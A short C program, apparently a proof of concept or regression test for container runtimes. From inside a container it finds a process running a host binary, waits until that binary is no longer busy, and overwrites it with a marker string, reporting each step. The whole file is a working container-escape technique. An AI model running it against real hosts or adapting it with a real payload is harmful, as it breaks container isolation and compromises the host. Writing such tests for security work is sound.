/* SPDX-License-Identifier: ISC */
/*
 * overwrite: looks for a process that runs a program which its path inside does not
 * lead to, keeps that program open and, once nobody runs it, writes to it. Says what
 * it has found and what came of it. Runs inside of a container.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int
foreign(int pid, char *target, size_t size)
{
	struct stat there, here;
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, target, size - 1);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	target[n < 0 ? 0 : n] = '\0';
	if (fd != -1 && fstat(fd, &there) == 0 &&
	    (stat(target, &here) == -1 || here.st_ino != there.st_ino))
		return fd;
	close(fd);
	return -1;
}

int
main(void)
{
	char path[64], target[512];
	int pid = 2, exe, fd;

	dprintf(1, "ready\n");
	while ((exe = foreign(pid, target, sizeof(target))) == -1)
		pid = pid < 4096 ? pid + 1 : 2;
	dprintf(1, "found %s\n", target);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
	do
		fd = open(path, O_WRONLY | O_CLOEXEC);
	while (fd == -1 && errno == ETXTBSY);
	if (fd != -1 && pwrite(fd, "overwritten", 11, 0) == 11)
		errno = 0;
	dprintf(1, "%s\n", errno == 0 ? "written" : strerror(errno));
	return 0;
}
